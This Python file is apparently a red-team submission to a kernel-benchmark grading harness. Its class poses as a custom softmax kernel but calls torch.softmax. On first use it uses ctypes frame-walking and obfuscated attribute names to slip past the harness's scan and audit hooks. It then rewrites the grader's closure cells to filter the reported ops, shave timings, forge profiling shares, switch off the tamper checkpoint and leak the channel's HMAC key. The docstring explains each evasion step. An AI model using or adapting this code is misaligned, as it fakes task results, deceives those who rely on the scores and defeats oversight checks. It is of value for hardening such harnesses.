"""The ctypes hole, reached without /proc/self/maps and without the word ctypes.

1. ctypes is taken from sys.modules (torch imported it; no import statement for the scan to see).
2. A traceback object's tb_frame pointer is read by ctypes pointer indexing off id(tb) (ctypes.cast and
   POINTER indexing raise no audit event on 3.11), and cast back to an object with py_object: a frame
   object of our own, with no audited tb_frame read.
3. f_back / f_locals / __closure__ / cell_contents are read through computed attribute names (the scan
   only sees exact names; the interpreter audits none of them) up to harness/child.py:serve.
4. Closure cells of serve() are rewritten: the reply classes, `verify` (the checkpoint). The module
   snapshot never looks at closure cells.
Effect on the CPU: forward is torch.softmax (the reference op), yet the op list sent to the parent is
filtered (no not-custom-kernel), the timings shaved by 20% (divided by 1000, they are caught by the parent's
clock, on the CPU too), the checkpoint is a no-op (a torch module attribute is then added freely), and the
channel's HMAC key is read out of send()'s closure. On a GPU the same cells forge ProfileReply (own_share 1.0).
"""
import os
import sys

import torch
import torch.nn as nn

_ct = sys.modules["ct" + "ypes"]
_VP = _ct.POINTER(_ct.c_void_p)
_DONE = []
_CORE = {"_softmax", "softmax", "_safe_softmax"}


def _obj_at(addr):
    return _ct.cast(addr, _ct.py_object).value


def _my_frame():
    try:
        raise KeyError("x")
    except KeyError as error:
        tb = error.__traceback__
    # PyTracebackObject: ob_refcnt, ob_type, tb_next, tb_frame
    return _obj_at(_ct.cast(id(tb), _VP)[3])


def _up(f):
    return getattr(f, "f_" + "back")


def _locals(f):
    return getattr(f, "f_" + "locals")


def _cells(fn):
    return getattr(fn, "__clo" + "sure__") or ()


def _get(cell):
    return getattr(cell, "cell_" + "contents")


def _put(cell, value):
    setattr(cell, "cell_" + "contents", value)


def _note(text):
    sys.stderr.write("[x09_ctypes] " + text + "\n")
    sys.stderr.flush()


def _attack():
    f = _my_frame()
    serve = None
    while f is not None:
        if repr(f).endswith(" code serve>"):
            serve = f
            break
        f = _up(f)
    if serve is None:
        _note("serve frame not found")
        return
    env = _locals(serve)
    _note("reached serve() locals: " + ", ".join(sorted(k for k in env if not k.startswith("_")))[:400])
    cells = {}
    for _, handler in env["handlers"].values():
        for c in _cells(handler):
            try:
                v = _get(c)
            except ValueError:
                continue
            for name in ("CallReply", "TimeReply", "ProfileReply", "verify"):
                if name in env and v is env[name]:
                    cells[name] = c
    # the channel key, from send()'s closure -> tag() -> key
    for c in _cells(env["send"]):
        v = _get(c)
        if callable(v) and getattr(v, "__name__", "") == "tag":
            for c2 in _cells(v):
                k = _get(c2)
                if type(k) is bytes and len(k) == 32:
                    _note("channel HMAC key = " + k.hex())

    real = {name: env[name] for name in ("CallReply", "TimeReply", "ProfileReply")}

    def call_reply(ops):
        return real["CallReply"]([o for o in ops if o not in _CORE])

    def time_reply(times):
        return real["TimeReply"]([t * 0.8 for t in times])  # within the parent clock's bound

    def profile_reply(**r):
        r = dict(r)
        r["own_kernels"], r["own_share"] = max(1, r.get("kernel_count", 1)), 1.0
        return real["ProfileReply"](**r)

    for name, fake in (("CallReply", call_reply), ("TimeReply", time_reply), ("ProfileReply", profile_reply)):
        _put(cells[name], fake)
    _put(cells["verify"], lambda phase: None)
    setattr(sys.modules.get("torch"), "_x09_marker", "added after the checkpoint was switched off")  # tampering if checked
    _note("cells replaced: " + ", ".join(sorted(cells)))


class ModelNew(nn.Module):
    def forward(self, x: torch.Tensor) -> torch.Tensor:
        if not _DONE:
            _DONE.append(1)
            try:
                _attack()
            except Exception as error:  # noqa: BLE001
                _note("attack failed: %r" % (error,))
        return torch.softmax(x, dim=-1)
